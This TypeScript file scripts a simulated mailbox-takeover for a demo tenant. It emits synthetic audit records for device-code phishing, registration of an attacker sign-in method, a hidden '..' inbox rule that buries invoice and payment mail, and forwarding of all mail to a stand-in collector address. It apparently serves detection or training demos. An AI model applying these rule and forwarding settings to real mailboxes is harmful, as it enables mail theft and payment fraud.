import { randomUUID } from 'node:crypto';
import { toUserTarget } from '../tenant-data/audit/entra-object-changes.js';
import { toExchangeRecord } from '../tenant-data/audit/exchange-record-formatter.js';
import { COMPANY } from '../tenant-data/past-attack-profile.js';
import { type AttackedPerson, readAttackedPerson, tellEntra, tellSignIn, toAttackActor } from './attack-people.js';
import type { AttackStep } from './attack-step.js';
import type { DemoTenantClient } from './demo-tenant-client.js';
import { LIVE_ATTACK } from './live-attack-profile.js';
import { startStory } from './story-times.js';

const VICTIM = `rosalind.achterberg@${COMPANY.domain}`;
/**
 * Microsoft Authentication Broker: phishers ask for it, as it can register a device. Source:
 * https://learn.microsoft.com/troubleshoot/entra/entra-id/governance/verify-first-party-apps-sign-in
 */
const BROKER = '29d9ed98-a469-4536-ade2-f981bc1d605e';
const COLLECTOR = 'collector@mail.example';

/** `mailbox-takeover`: a device code from a phisher, an own sign-in method, then a rule that hides mail, and forwarding. */
export function buildMailboxTakeoverSteps(now: Date): readonly AttackStep[] {
  const { context, at } = startStory(now);
  const { ip } = LIVE_ATTACK;
  const victim = (client: DemoTenantClient) => readAttackedPerson(client, VICTIM, ip);
  const inExchange = (user: AttackedPerson, minutes: number, operation: string, object: string, parameters: object) =>
    toExchangeRecord(context, {
      at: at(minutes),
      operation,
      objectId: object,
      parameters: { ...parameters },
      actor: { kind: 'user', id: user.id, userPrincipalName: user.userPrincipalName, ip },
      key: randomUUID(),
    });
  return [
    {
      words: `${VICTIM} types a code that a message asked for: whoever sent it is signed in as them, from ${ip}.`,
      play: async (client) => {
        const user = await victim(client);
        await tellSignIn(client, context, { at: at(0), user, ip, applicationId: BROKER, requestType: 'Cmsi:Cmsi' });
      },
    },
    {
      words: 'They register a sign-in method of their own.',
      play: async (client) => {
        const user = await victim(client);
        await tellEntra(client, context, [
          {
            at: at(4),
            activity: 'User registered security info',
            category: 'UserManagement',
            service: 'Authentication Methods',
            type: 'Add',
            actor: toAttackActor(user, ip),
            targets: [toUserTarget(user)],
            correlation: randomUUID(),
          },
        ]);
      },
    },
    {
      words: 'They make an inbox rule that hides what is about invoices and payments.',
      play: async (client) => {
        const user = await victim(client);
        const rule = {
          Name: '..',
          SubjectOrBodyContainsWords: 'invoice;payment',
          MoveToFolder: 'RSS Feeds',
          MarkAsRead: 'True',
        };
        await client.tell([inExchange(user, 9, 'New-InboxRule', `${VICTIM}\\..`, rule)], []);
      },
    },
    {
      words: `They forward all mail to ${COLLECTOR}.`,
      play: async (client) => {
        const forwarding = { Identity: VICTIM, ForwardingSmtpAddress: `smtp:${COLLECTOR}` };
        await client.tell([inExchange(await victim(client), 13, 'Set-Mailbox', VICTIM, forwarding)], []);
      },
    },
  ];
}
